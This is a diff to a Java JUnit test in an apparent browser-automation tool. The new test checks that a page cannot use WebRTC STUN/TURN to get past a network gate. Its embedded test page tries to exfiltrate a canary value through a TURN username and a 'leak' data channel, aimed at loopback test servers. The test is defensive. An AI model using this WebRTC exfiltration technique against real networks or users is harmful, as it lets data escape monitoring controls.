@@ -2,6 +2,7 @@ package dev.keyward.automation.runner;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.microsoft.playwright.BrowserContext;
@@ -15,6 +16,11 @@ import dev.keyward.automation.browser.RequiresChromium;
 import dev.keyward.automation.program.CheckpointType;
 import dev.keyward.automation.scripts.AutomationScript;
 import java.io.IOException;
+import java.net.DatagramPacket;
+import java.net.DatagramSocket;
+import java.net.InetAddress;
+import java.net.ServerSocket;
+import java.net.SocketTimeoutException;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.util.List;
@@ -303,6 +309,50 @@ class NetworkGateTest {
         assertFalse(asked.toString().contains("pk-canary"), "the value is never shown");
         assertEquals(ExecutionStatus.ABORTED, result.status());
         assertTrue(fx.session.secrets().list().stream().noneMatch(s -> s.name().equals("gate-test-key")));
+    }
+
+    @Test
+    void aPageGetsNoWebRtcToSendAroundTheGate() throws IOException {
+        try (ServerSocket turn = new ServerSocket(0, 5, InetAddress.getByName("127.0.0.1"));
+             DatagramSocket stun = new DatagramSocket(0, InetAddress.getByName("127.0.0.1"))) {
+            turn.setSoTimeout(200);
+            stun.setSoTimeout(200);
+            // STUN and TURN carry the page's chosen user name to any address: a channel past every route.
+            site.page("/call", """
+                    <!doctype html><title>Call</title><button id="call" onclick="call()">Start call</button>
+                    <script>
+                    function tryPeer(scope, label) {
+                      try {
+                        const pc = new scope.RTCPeerConnection({iceServers: [
+                          {urls: 'stun:127.0.0.1:%d'},
+                          {urls: 'turn:127.0.0.1:%d?transport=tcp', username: 'exfil-%s', credential: 'x'}]});
+                        pc.createDataChannel('leak');
+                        pc.createOffer().then(o => pc.setLocalDescription(o));
+                        return label + ':opened';
+                      } catch (e) {
+                        return label + ':refused';
+                      }
+                    }
+                    function call() {
+                      const frame = document.createElement('iframe');
+                      document.body.append(frame);
+                      const said = [tryPeer(window, 'page'), tryPeer(frame.contentWindow, 'frame')].join(' ');
+                      // ICE gathering runs after the offer: give it time to reach the servers.
+                      setTimeout(() => { const p = document.createElement('p'); p.id = 'done'; p.textContent = said;
+                        document.body.append(p); }, 2500);
+                    }
+                    </script>
+                    """.formatted(stun.getLocalPort(), turn.getLocalPort(), "canary"));
+            AutomationScript script = approved(program("[" + open("/call") + ", " + click("call") + ", "
+                    + "{\"id\": \"wait-done\", \"type\": \"wait_for\", \"selector\": \"#done\"}]"));
+
+            RunResult result = fx.run(script, inputs(), ScriptedGate.approvingAll());
+
+            assertEquals(ExecutionStatus.SUCCESS, result.status(), String.valueOf(result.error()));
+            assertThrows(SocketTimeoutException.class, turn::accept, "a TURN connection reached the loopback server");
+            assertThrows(SocketTimeoutException.class, () -> stun.receive(new DatagramPacket(new byte[1500], 1500)),
+                    "a STUN packet reached the loopback server");
+        }
     }
 
     private AutomationScript approved(String json) {
